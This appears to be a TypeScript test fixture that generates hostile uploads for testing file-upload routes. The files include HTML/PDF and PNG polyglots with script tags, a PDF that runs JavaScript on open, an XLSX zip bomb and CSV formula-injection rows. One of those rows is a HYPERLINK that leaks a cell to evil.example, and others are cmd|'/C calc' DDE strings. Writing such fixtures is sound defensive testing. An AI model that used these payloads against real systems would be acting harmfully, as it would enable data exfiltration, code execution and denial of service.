import ExcelJS from 'exceljs';
import { zipBombXlsx } from '../hostile-files.ts';
import { minimalPdf, ONE_PIXEL_JPEG, ONE_PIXEL_PNG, pngDeclaring } from '../scan-samples.ts';

export const XLSX_TYPE = 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet';

/** A hostile upload: its bytes, the content type it claims, and what it is. */
export interface HostileFile {
  name: string;
  contentType: string;
  content: Buffer;
}

/** A sheet with one cell in the very last cell a sheet has (XFD1048576) under a header row. */
async function lastCellXlsx(): Promise<Buffer> {
  const workbook = new ExcelJS.Workbook();
  const sheet = workbook.addWorksheet('Saraksts');
  sheet.getCell('A1').value = 'Personas kods';
  sheet.getCell('B1').value = 'Vārds';
  sheet.getCell('XFD1048576').value = 'x';
  return Buffer.from(await workbook.xlsx.writeBuffer());
}

/** Every hostile file the upload routes get (the over-size one is made per route, for its limit). */
export async function hostileFiles(): Promise<HostileFile[]> {
  const polyglot = Buffer.from(
    '%PDF-1.4\n%<html><body><script>alert(document.cookie)</script></body></html>\n1 0 obj<</Type/Catalog>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n',
  );
  return [
    { name: 'an empty file', contentType: 'application/pdf', content: Buffer.alloc(0) },
    { name: 'a PDF that is also HTML', contentType: 'application/pdf', content: polyglot },
    {
      name: 'HTML labelled PDF',
      contentType: 'application/pdf',
      content: Buffer.from('<!doctype html><script>alert(1)</script>'),
    },
    {
      name: 'SVG with a script labelled PNG',
      contentType: 'image/png',
      content: Buffer.from('<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'),
    },
    {
      name: 'a PNG that is also HTML',
      contentType: 'image/png',
      content: Buffer.concat([
        Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]),
        Buffer.from('<html><script>alert(1)</script></html>'),
      ]),
    },
    {
      name: 'a JPEG that is only its header',
      contentType: 'image/jpeg',
      content: Buffer.from([0xff, 0xd8, 0xff, 0xe0, 0x00, 0x10, 0x4a, 0x46, 0x49, 0x46, 0x00]),
    },
    {
      name: '"%PDF-" and then anything',
      contentType: 'application/pdf',
      content: Buffer.from('%PDF-1.4\nxyz'),
    },
    {
      name: 'a PNG declaring 100,000 × 100,000 pixels',
      contentType: 'image/png',
      content: pngDeclaring(100_000, 100_000),
    },
    {
      name: 'a PNG with a wrong CRC',
      contentType: 'image/png',
      content: Buffer.concat([
        ONE_PIXEL_PNG.subarray(0, -1),
        Buffer.from([ONE_PIXEL_PNG[ONE_PIXEL_PNG.length - 1] ^ 1]),
      ]),
    },
    {
      name: 'a JPEG with a zip appended',
      contentType: 'image/jpeg',
      content: Buffer.concat([ONE_PIXEL_JPEG, Buffer.from('PK\u0003\u0004garbage-not-a-zip')]),
    },
    {
      name: 'a PDF that runs JavaScript when opened',
      contentType: 'application/pdf',
      content: minimalPdf('', '/OpenAction << /S /JavaScript /JS (app.alert(1)) >>'),
    },
    { name: 'an XLSX zip bomb (1 GB inflated)', contentType: XLSX_TYPE, content: zipBombXlsx(1000) },
    { name: 'an XLSX with a cell at XFD1048576', contentType: XLSX_TYPE, content: await lastCellXlsx() },
    {
      name: 'random bytes labelled XLSX',
      contentType: XLSX_TYPE,
      content: Buffer.from('PK\u0003\u0004garbage-not-a-zip'),
    },
    {
      name: 'a CSV with formulas',
      contentType: 'text/csv',
      content: Buffer.from(
        `Personas kods;Vārds;Uzvārds\n=HYPERLINK("http://evil.example/?x="&A1,"x");+cmd|' /C calc'!A0;@SUM(1)\n-2+3;=1+1;=cmd|'/C notepad'!A1\n`,
      ),
    },
    {
      name: 'a CSV in UTF-16 with NUL bytes',
      contentType: 'text/csv',
      content: Buffer.from('\ufeffPersonas kods;Vārds\n\u0000\u0000;x\n', 'utf16le'),
    },
  ];
}
